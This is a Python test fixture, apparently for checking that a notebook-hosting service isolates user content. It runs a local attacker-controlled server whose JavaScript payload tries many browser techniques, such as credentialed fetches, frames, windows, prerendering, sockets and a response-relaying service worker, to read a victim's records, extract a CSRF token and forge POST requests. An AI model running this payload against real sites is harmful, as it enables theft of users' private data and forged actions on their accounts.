"""A server that a notebook's user controls, and what its page tries in a victim's browser."""

from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

WORKER = """
self.addEventListener("install", event => self.skipWaiting());
self.addEventListener("activate", event => event.waitUntil(self.clients.claim()));
self.addEventListener("fetch", event => event.respondWith((async () => {
  const answer = await fetch(event.request);
  const loot = await answer.clone().text();
  for (const client of await self.clients.matchAll({includeUncontrolled: true}))
    client.postMessage(loot);
  return answer;
})()));
"""

ATTACK = """
async base => {
  const loot = {};
  const within = (work, seconds) => Promise.race(
    [work, new Promise(done => setTimeout(() => done(""), seconds * 1000))]);
  const attempt = async (name, work) => {
    try { loot[name] = String(await within(work(), 8)); } catch (error) { loot[name] = ""; }
  };
  const element = (kind, attributes) => Object.assign(document.createElement(kind), attributes);
  const added = node => { document.body.append(node); return node; };
  const loaded = node => new Promise(done => { node.onload = node.onerror = () => done(node); });
  const form = async (path, csrf, target) => {
    const made = added(element("form", {method: "post", action: base + path, target}));
    made.append(element("input", {name: "csrf_token", value: csrf}));
    made.submit();
    await new Promise(done => setTimeout(done, 300));
  };
  for (const path of ["/", "/my", "/records", "/api/v1/records", "/api/v1/me"])
    for (const mode of ["no-cors", "cors", "same-origin"])
      await attempt(`fetch ${mode} ${path}`, async () =>
        (await fetch(base + path, {mode, credentials: "include"})).text());
  for (const kind of ["iframe", "object", "embed"])
    await attempt(kind, async () => {
      const node = element(kind, {[kind == "object" ? "data" : "src"]: base + "/records"});
      const ended = loaded(node);
      added(node);
      await within(ended, 3);
      return (node.contentDocument || node.getSVGDocument()).documentElement.outerHTML;
    });
  await attempt("prefetch", async () => {
    const node = element("link", {rel: "prefetch", href: base + "/records", as: "document"});
    const ended = loaded(node);
    document.head.append(node);
    await within(ended, 3);
    return (await fetch(base + "/records", {cache: "force-cache"})).text();
  });
  for (const path of ["/my", "/records", "/api/v1/records"])
    await attempt(`window ${path}`, async () => {
      const opened = open(base + path);
      try {
        for (let turn = 0; turn < 30; turn++) {
          await new Promise(done => setTimeout(done, 100));
          if (opened.location.href != "about:blank" && opened.document.readyState == "complete")
            return opened.document.documentElement.outerHTML;
        }
      } finally { opened.close(); }
    });
  const kinds = {
    script: "src", link: "href", img: "src", audio: "src", track: "src", frame: "src"};
  for (const [kind, name] of Object.entries(kinds))
    await attempt(`element ${kind}`, async () => {
      const node = element(kind, {[name]: base + "/api/v1/records", rel: "stylesheet"});
      const ended = loaded(node);
      added(node);
      await within(ended, 2);
      return (node.contentDocument || node.sheet || {}).documentElement?.outerHTML || "";
    });
  await attempt("named window", async () => {
    const opened = open(base + "/records", "victim");
    await new Promise(done => setTimeout(done, 1500));
    try { return open("", "victim").document.documentElement.outerHTML; }
    finally { opened.close(); }
  });
  await attempt("prerender", async () => {
    const urls = [base + "/records", base + "/my"];
    const rules = JSON.stringify({prerender: [{urls, eagerness: "immediate"}],
      prefetch: [{urls, eagerness: "immediate"}]});
    document.head.append(element("script", {type: "speculationrules", text: rules}));
    document.head.append(element("link", {rel: "prerender", href: base + "/records"}));
    await new Promise(done => setTimeout(done, 1500));
    return (await fetch(base + "/records", {cache: "only-if-cached", mode: "same-origin"})).text();
  });
  await attempt("events", () => new Promise(done => {
    const source = new EventSource(base + "/api/v1/records", {withCredentials: true});
    source.onmessage = event => done(event.data);
    source.onerror = () => { source.close(); done(""); };
  }));
  await attempt("socket", () => new Promise(done => {
    const socket = new WebSocket(base.replace("http", "ws") + "/api/v1/records");
    socket.onmessage = event => done(event.data);
    socket.onopen = () => done("own-vo");
    socket.onerror = () => done("");
  }));
  await attempt("beacon", async () => navigator.sendBeacon(base + "/api/v1/push", "csrf_token="));
  await attempt("worker", async () => {
    const seen = [];
    navigator.serviceWorker.onmessage = event => seen.push(event.data);
    await navigator.serviceWorker.register("worker.js", {scope: new URL(base).pathname + "/"});
    for (const path of ["/", "/records", "/api/v1/records"]) {
      const opened = open(base + path);
      await new Promise(done => setTimeout(done, 1500));
      opened.close();
    }
    return seen.join("\\n");
  });
  const all = Object.values(loot).join("\\n");
  const csrf = (all.match(/name="csrf_token" value="([^"]+)"/) || ["", ""])[1];
  for (const target of ["_blank", "hidden"]) {
    if (target == "hidden") added(element("iframe", {name: "hidden"}));
    await attempt(`form ${target}`, () => form("/api/v1/push", csrf, target));
  }
  for (const mode of ["no-cors", "cors", "same-origin"])
    await attempt(`action ${mode}`, async () => (await fetch(base + "/api/v1/push", {
      method: "POST", mode, credentials: "include",
      headers: mode == "no-cors" ? {} : {"X-CSRF-Token": csrf},
      body: new URLSearchParams({csrf_token: csrf}),
    })).text());
  loot.csrf = csrf;
  return loot;
}
"""


class _Notebook(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        is_worker = self.path.endswith("/worker.js")
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript" if is_worker else "text/html")
        self.send_header("Service-Worker-Allowed", "/")
        # The same as the victim's pages have: so that both share a browsing context group.
        self.send_header("Cross-Origin-Opener-Policy", "same-origin")
        self.end_headers()
        page = "<!doctype html><title>A notebook</title><body></body>"
        self.wfile.write((WORKER if is_worker else page).encode())

    def log_message(self, *_: object) -> None:
        pass


@contextmanager
def notebook(port: int) -> Iterator[None]:
    """A notebook's server, with whatever headers its user likes."""
    server = ThreadingHTTPServer(("127.0.0.1", port), _Notebook)
    thread = Thread(target=server.serve_forever)
    thread.start()
    try:
        yield
    finally:
        server.shutdown()
        thread.join()
        server.server_close()
